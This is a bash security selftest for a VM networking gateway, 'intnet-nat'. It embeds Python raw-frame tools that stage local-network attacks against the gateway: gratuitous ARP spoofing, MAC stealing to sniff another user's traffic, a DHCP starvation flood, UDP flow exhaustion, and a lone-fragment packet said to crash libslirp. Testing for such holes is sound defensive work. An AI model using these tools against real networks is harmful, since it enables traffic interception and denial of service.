#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# KNOWN HOLES, NOT PART OF make check: issue 18 stays open until each check here passes
# and moves to selftests/nat.sh. Run it in a guest by hand:
#   make vm LANE=6.12 CMD='selftests/holes/rednat.sh'
# (The lone-fragment crash is fixed: intnet-nat passes libslirp no IPv4 fragment.)
# Red team of intnet-nat: what bob (1002), a local user with a VM port on alice's
# (1001) public network lab, can do to or through the gateway alice runs there with
# "intnet-nat lab hostfwd=tcp:127.0.0.1:2222-:22". Every check asserts the SECURE
# behaviour: a "not ok" is a hole. Set up as selftests/nat.sh does (the helper as
# installed, its ACL, VMs as namespaces behind veths root attaches; bob's with
# "user 1002", what bob gets by attaching his own TAP to the public network).
#   - bob's VM reaches the host's loopback through 10.0.2.2 as alice (the socket is hers);
#   - one gratuitous ARP from bob's VM takes alice's forward (and her VM's replies);
#   - bob's VM sending from the gateway's MAC receives what alice's VM sends the gateway;
#   - 16 DHCPDISCOVERs with made-up client addresses, from one MAC, leave no lease
#     for alice's next VM, and the log says nothing;
#   - 1100 UDP flows from bob's VM use up alice's 1024 fds: her VM's UDP goes
#     nowhere and the gateway spins on a forward it cannot accept;
#   - one lone IPv4 fragment from bob's VM kills the gateway (libslirp 4.7.0, SIGBUS).
# (Fixed and moved to nat.sh: bad options QEMU refuses, bob's VM answering the
# startup probe, root's gateway keeping root's uid, the unit's %I.)
. "$(dirname "$0")/../lib.sh"

repo=$(cd "$(dirname "$0")/../.." && pwd)
NAT=$repo/userland/intnet-nat
ALICE=1001 BOB=1002
LIBEXEC=/usr/local/libexec/intnet-qemu-helper
ACL=/etc/intnet/qemu-helper.conf
build=${BUILD:-$repo/build}

plan 11
load_module

tmp=$(mktemp -d)
chmod 0755 "$tmp"
pids=()
installed=
restore() {
	[ -z "$installed" ] || rm -f "$LIBEXEC"
	if [ -f "$tmp/acl.saved" ]; then cp "$tmp/acl.saved" "$ACL"; else rm -f "$ACL"; fi
}
at_exit rm -rf "$tmp"
at_exit restore
at_exit del_nets 1001/lab
at_exit del_links ra1 ra2 rb1 rnd0
at_exit del_netns rvm1 rvm2 rbob
at_exit_late 'stop_pids "${pids[@]}"'

if [ ! -e "$LIBEXEC" ]; then
	mkdir -p "$(dirname "$LIBEXEC")"
	install -m 0755 "$build/bin/intnet-qemu-helper" "$LIBEXEC"
	setcap cap_net_admin+ep "$LIBEXEC"
	installed=1
fi
mkdir -p "$(dirname "$ACL")"
[ ! -f "$ACL" ] || cp "$ACL" "$tmp/acl.saved"
echo "allow lab" >"$ACL"
chmod 0666 /dev/net/tun
# The probe asks intnetctl, by this path (not the installed one).
INTNET_NAT_INTNETCTL=$(command -v intnetctl)
export INTNET_NAT_INTNETCTL

# Raw frames from a VM: the attacker's tools.
cat >"$tmp/frames.py" <<'PY'
import os, random, socket, struct, sys, time
mode, ifc, args = sys.argv[1], sys.argv[2], sys.argv[3:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind((ifc, 0))
mac = s.getsockname()[4]
BC = b"\xff" * 6
def ip4(a): return socket.inet_aton(a)
def csum(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return (~t) & 0xffff
def ipv4(src, dst, proto, payload, ident=1, frag=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0, ip4(src), ip4(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload
def udp(sp, dp, data):
    return struct.pack("!HHHH", sp, dp, 8 + len(data), 0) + data
def arp(op, sha, sip, tha, tip):
    return BC + sha + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + ip4(sip) + tha + ip4(tip)
def dhcp(chaddr, mtype, xid):
    b = struct.pack("!BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000) + b"\0" * 16 + chaddr + b"\0" * 10 + b"\0" * 192
    o = b"\x63\x82\x53\x63" + bytes([53, 1, mtype]) + b"\xff"
    return BC + mac + b"\x08\x00" + ipv4("0.0.0.0", "255.255.255.255", 17, udp(68, 67, b + o))
if mode == "garp":  # garp IFACE IP: "IP is at my MAC", as request and reply
    for _ in range(3):
        s.send(arp(1, mac, args[0], b"\0" * 6, args[0]))
        s.send(arp(2, mac, args[0], BC, args[0]))
        time.sleep(0.1)
elif mode == "dhcpflood":  # dhcpflood IFACE N: N discovers from my MAC, each its own chaddr
    for i in range(int(args[0])):
        s.send(dhcp(bytes([2, 0xbb, 0, 0, 0, i]), 1, 0x1000 + i))
        time.sleep(0.02)
elif mode == "stealmac":  # stealmac IFACE MAC SECS: frames from MAC, for the switch to learn here
    m = bytes.fromhex(args[0].replace(":", ""))
    end = time.time() + float(args[1])
    while time.time() < end:
        s.send(BC + m + b"\x88\xb5" + b"\0" * 46)
        time.sleep(0.02)
elif mode == "sniff":  # sniff IFACE PATTERN SECS: how many frames seen here carry PATTERN
    s.settimeout(0.2); end = time.time() + float(args[1]); n = 0
    print("ready", flush=True)
    while time.time() < end:
        try: f = s.recv(4096)
        except socket.timeout: continue
        n += args[0].encode() in f
    print(n, flush=True)
elif mode == "frag":  # frag IFACE: one IPv4 fragment alone (the last, offset 800) to the gateway
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 120, 7, 100, 64, 17, 0, ip4("10.0.2.99"), ip4("10.0.2.2"))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    s.send(b"\x52\x55\x0a\x00\x02\x02" + mac + b"\x08\x00" + h + b"\xab" * 100)
PY
# Servers and clients: on the host's loopback a TCP server that answers with the uid
# of the socket that connected (as identd would) and a UDP echo; listeners in VMs.
cat >"$tmp/peer.py" <<'PY'
import selectors, socket, sys, time
mode, args = sys.argv[1], sys.argv[2:]
def uid_of(port):
    for line in open("/proc/net/tcp").readlines()[1:]:
        f = line.split()
        if int(f[1].split(":")[1], 16) == port and int(f[2].split(":")[1], 16) == 7001:
            return f[7]
    return "?"
def servers():
    sel = selectors.DefaultSelector()
    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("127.0.0.1", 7001)); t.listen(8); sel.register(t, selectors.EVENT_READ, "tcp")
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 7002))
    sel.register(u, selectors.EVENT_READ, "udp")
    print("ready", flush=True)
    while True:
        for key, _ in sel.select():
            s = key.fileobj
            if key.data == "tcp":
                c, a = s.accept(); c.sendall(b"uid " + uid_of(a[1]).encode() + b"\n"); c.close()
            else:
                m, a = s.recvfrom(2048); s.sendto(b"udp:" + m, a)
def listen():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(args[0]))); s.listen(8); s.settimeout(float(args[2]))
    print("ready", flush=True)
    try:
        while True:
            c, a = s.accept(); c.sendall(args[1].encode() + b"\n"); c.close()
    except socket.timeout: pass
def tcp():
    try:
        s = socket.create_connection((args[0], int(args[1])), timeout=float(args[2]) if len(args) > 2 else 5)
        print(s.recv(100).decode().strip() or "nothing")
    except Exception as e: print("error:", e)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(args[2].encode(), (args[0], int(args[1]))); print(s.recv(100).decode())
    except Exception as e: print("error:", e)
def udpflood():
    n = int(args[0])
    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 20000 + i))
        s.sendto(b"x", (args[1], 9)); s.close()
        if i % 100 == 0: time.sleep(0.01)
    print("sent", n)
globals()[mode]()
PY
peer() { timeout 20 python3 "$tmp/peer.py" "$@" 2>&1 | tail -1; }
in_vm() { local vm=$1; shift; ip netns exec "$vm" "$@"; }
frames() { local vm=$1; shift; ip netns exec "$vm" python3 "$tmp/frames.py" "$1" eth0 "${@:2}"; }
wait_ready() { for _ in $(seq 50); do grep -q ready "$1" && return 0; sleep 0.1; done; return 1; }

cat >"$tmp/udhcpc.sh" <<'SH'
#!/bin/sh
case "$1" in
deconfig) ip addr flush dev "$interface"; ip link set "$interface" up ;;
bound|renew)
	ip addr add "$ip/$subnet" dev "$interface"
	[ -z "$router" ] || ip route replace default via "${router%% *}" dev "$interface"
	;;
esac
exit 0
SH
chmod 0755 "$tmp/udhcpc.sh"
lease() {
	in_vm "$1" busybox udhcpc -i eth0 -n -q -t 4 -T 1 -s "$tmp/udhcpc.sh" >"$tmp/udhcpc.$1" 2>&1
	ip -n "$1" -4 -o addr show dev eth0 | awk '{ print $4 }' | grep . || echo none
}

# start_nat LOG ARGS...: alice's intnet-nat with a user's usual 1024 fds; sets nat_pid.
start_nat() {
	local log=$1
	shift
	setpriv --reuid=$ALICE --regid=$ALICE --clear-groups sh -c 'ulimit -n 1024 && exec "$0" "$@"' \
		"$NAT" "$@" >"$log" 2>&1 &
	nat_pid=$!
	pids+=("$nat_pid")
	for _ in $(seq 100); do
		grep -q "gateway for" "$log" && return 0
		kill -0 "$nat_pid" 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}
stop_nat() { kill "$nat_pid" 2>/dev/null; wait "$nat_pid" 2>/dev/null; }
cpu_ticks() { awk '{ print $14 + $15 }' "/proc/$1/stat"; }

# alice's PUBLIC network lab; her two VMs, and bob's VM, a port that is bob's.
as_uid $ALICE intnetctl net add lab public
for v in rvm1:ra1:02:00:00:00:0a:01 rvm2:ra2:02:00:00:00:0a:02 rbob:rb1:02:00:00:00:0b:01; do
	ns=${v%%:*} rest=${v#*:}
	dev=${rest%%:*} mac=${rest#*:}
	ip netns add "$ns"
	ip -n "$ns" link set lo up
	ip link add "$dev" type veth peer name eth0 netns "$ns"
	ip -n "$ns" link set eth0 address "$mac" up
	ip link set "$dev" up
done
intnetctl port add ra1 net 1001/lab
intnetctl port add ra2 net 1001/lab
intnetctl port add rb1 net 1001/lab user $BOB
ip link add rnd0 type dummy
ip addr add 192.0.2.1/24 dev rnd0
ip link set rnd0 up
python3 "$tmp/peer.py" servers >"$tmp/servers.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/servers.log"
expect_eq "bob's VM's port rb1 is bob's, on alice's public lab" "net 1001/lab user 1002" \
	"$(intnetctl port show rb1 | awk '{ print $2, $3, $7, $8 }')"

# ---- alice's gateway, her ssh-style forward to the first lease ----
check "alice's intnet-nat starts on lab (hostfwd=tcp:127.0.0.1:2222-:22)" \
	start_nat "$tmp/nat1.log" lab hostfwd=tcp:127.0.0.1:2222-:22
sed 's/^/# /' "$tmp/nat1.log"
expect_eq "alice's VM 1 gets the first lease" 10.0.2.15/24 "$(lease rvm1)"
# bob's VM: an address of its own outside the leases, the gateway as its router.
ip -n rbob addr add 10.0.2.99/24 dev eth0
ip -n rbob route add default via 10.0.2.2

# ---- bob's VM on the host's loopback, as alice ----
out=$(in_vm rbob timeout 20 python3 "$tmp/peer.py" tcp 10.0.2.2 7001 2>&1 | tail -1)
echo "# bob's VM to 10.0.2.2:7001 (a server on 127.0.0.1 naming its client's uid): $out"
check "bob's VM does not reach the host's loopback as alice (uid 1001)" \
	test "$out" != "uid $ALICE"

# ---- one gratuitous ARP from bob's VM takes alice's forward ----
in_vm rvm1 timeout 40 python3 "$tmp/peer.py" listen 22 alice-vm 30 >"$tmp/l1.log" 2>&1 &
pids+=($!)
ip -n rbob addr add 10.0.2.15/32 dev eth0
in_vm rbob timeout 40 python3 "$tmp/peer.py" listen 22 bob-vm 30 >"$tmp/l2.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/l1.log"
wait_ready "$tmp/l2.log"
echo "# before: 127.0.0.1:2222 -> $(peer tcp 127.0.0.1 2222)"
frames rbob garp 10.0.2.15
out=$(peer tcp 127.0.0.1 2222)
expect_eq "after bob's gratuitous ARP for 10.0.2.15, alice's forward still reaches her VM" alice-vm "$out"
ip -n rbob addr del 10.0.2.15/32 dev eth0
frames rvm1 garp 10.0.2.15
echo "# alice's VM said where 10.0.2.15 is again: 127.0.0.1:2222 -> $(peer tcp 127.0.0.1 2222)"

# ---- bob's VM sends from the gateway's MAC: the switch learns it on his port ----
frames rbob sniff alice-secret 5 >"$tmp/sniff.log" 2>&1 &
sniff=$!
pids+=("$sniff")
wait_ready "$tmp/sniff.log"
frames rbob stealmac 52:55:0a:00:02:02 4 &
pids+=($!)
sleep 0.5
in_vm rvm1 ip route replace default via 10.0.2.2
out=$(in_vm rvm1 timeout 10 python3 "$tmp/peer.py" udp 10.0.2.2 7002 alice-secret 2>&1 | tail -1)
wait $sniff
echo "# alice's VM's UDP to the gateway while bob sends from 52:55:0a:00:02:02: $out"
expect_eq "bob's VM sending from the gateway's MAC receives nothing alice's VM sends the gateway" 0 \
	"$(tail -1 "$tmp/sniff.log")"
sleep 4

# ---- 16 leases: bob's VM takes them all with made-up client addresses ----
frames rbob dhcpflood 16
l2=$(lease rvm2)
expect_eq "after bob's 16 DHCPDISCOVERs (one MAC, 16 chaddrs), alice's VM 2 still gets a lease" \
	"10.0.2." "${l2:0:7}"
echo "# alice's VM 2: $l2; intnet-nat's log has $(grep -c lease "$tmp/nat1.log") lease lines"

# ---- 1100 UDP flows from bob's VM: alice's gateway out of fds ----
echo "# before: alice's VM 1 UDP to 10.0.2.2:7002 -> $(in_vm rvm1 timeout 10 python3 "$tmp/peer.py" udp 10.0.2.2 7002 hi 2>&1 | tail -1)"
in_vm rbob timeout 60 python3 "$tmp/peer.py" udpflood 1100 192.0.2.1 >/dev/null 2>&1
echo "# intnet-nat holds $(ls "/proc/$nat_pid/fd" | wc -l) fds"
out=$(in_vm rvm1 timeout 10 python3 "$tmp/peer.py" udp 10.0.2.2 7002 hi 2>&1 | tail -1)
expect_eq "after 1100 UDP flows from bob's VM, alice's VM's UDP still gets out" udp:hi "$out"
out=$(peer tcp 127.0.0.1 2222 3)
echo "# 127.0.0.1:2222 now: $out"
t0=$(cpu_ticks "$nat_pid")
sleep 2
t1=$(cpu_ticks "$nat_pid")
echo "# intnet-nat used $((t1 - t0)) ticks of CPU in 2 s (200 = a whole CPU)"
check "the gateway is not left spinning (under half a CPU)" test $((t1 - t0)) -lt 100
stop_nat

# ---- one lone IPv4 fragment from bob's VM ----
check "a fresh gateway starts" start_nat "$tmp/nat2.log" lab probe=off
frames rbob frag
sleep 1.5
if kill -0 "$nat_pid" 2>/dev/null; then
	ok "alice's gateway survives one lone IPv4 fragment from bob's VM"
	stop_nat
else
	wait "$nat_pid"
	rc=$?
	not_ok "alice's gateway survives one lone IPv4 fragment from bob's VM"
	echo "#   intnet-nat died: exit status $rc ($(kill -l $((rc - 128)) 2>/dev/null))"
fi

finish
